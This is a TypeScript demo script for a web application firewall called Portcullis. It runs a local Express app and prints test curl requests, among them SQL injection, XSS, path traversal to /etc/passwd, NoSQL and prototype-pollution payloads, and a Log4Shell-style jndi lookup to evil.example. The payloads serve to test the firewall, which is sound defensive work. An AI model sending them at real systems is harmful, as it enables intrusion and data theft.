/**
 * `npm run demo`: an Express app protected by Portcullis on its default rules.
 * Attacks are blocked with 403 and printed here as they arrive. Try the curl lines the demo prints.
 */
import express from 'express';
import { portcullis, type Alert } from '../src/index.js';

const port = Number(process.env.PORT ?? 3000);
const app = express();
const waf = portcullis({ mode: process.env.PORTCULLIS_MODE === 'detect' ? 'detect' : 'block', paranoia: 1 });

waf.on('alert', (a: Alert) => {
  const rules = a.matches.map((m) => `${m.id} ${m.message} [${m.target}]`).join('; ');
  console.log(`[portcullis] ${a.action.toUpperCase()} ${a.method} ${a.url} from ${a.clientIp} score=${a.score}/${a.threshold} incident=${a.incidentId}\n             ${rules}`);
});
waf.on('error', (err) => console.error('[portcullis] internal error:', err));

app.use(waf);
app.use(express.json());
app.use(express.urlencoded({ extended: true }));

app.get('/', (_req, res) => {
  res.type('text/plain').send('Portcullis demo: this app is protected. Try the curl lines printed in the terminal.\n');
});
app.get('/search', (req, res) => {
  res.json({ query: req.query.q ?? '', results: [] });
});
app.post('/api/login', (req, res) => {
  const body = req.body as { user?: unknown };
  res.json({ ok: true, user: typeof body.user === 'string' ? body.user : null });
});
app.post('/comments', (req, res) => {
  res.status(201).json({ saved: req.body });
});

const server = app.listen(port, '127.0.0.1', () => {
  const base = `http://127.0.0.1:${port}`;
  console.log(`Portcullis demo listening on ${base} (rules ${waf.rulesVersion}, mode ${waf.config.mode}, paranoia ${waf.config.paranoia})

Benign (passes):
  curl -s '${base}/search?q=select+a+plan'
  curl -s -X POST ${base}/api/login -H 'content-type: application/json' -d '{"user":"o'"'"'brien","password":"S3cr3t!"}'
Attacks (403 with an incident id):
  curl -si "${base}/search?q=1'%20OR%20'1'='1" | head -1
  curl -si "${base}/search?q=<script>alert(1)</script>" | head -1
  curl -si '${base}/search?file=../../../../etc/passwd' | head -1
  curl -si -X POST ${base}/api/login -H 'content-type: application/json' -d '{"user":{"$ne":null},"password":{"$ne":null}}' | head -1
  curl -si -X POST ${base}/comments -H 'content-type: application/json' -d '{"__proto__":{"admin":true}}' | head -1
  curl -si '${base}/search?q=$\{jndi:ldap://evil.example/a}' | head -1
  curl -si -A 'sqlmap/1.7' ${base}/ | head -1
`);
});

function shutdown(): void {
  server.close();
  void waf.close();
}
process.on('SIGINT', shutdown);
process.on('SIGTERM', shutdown);
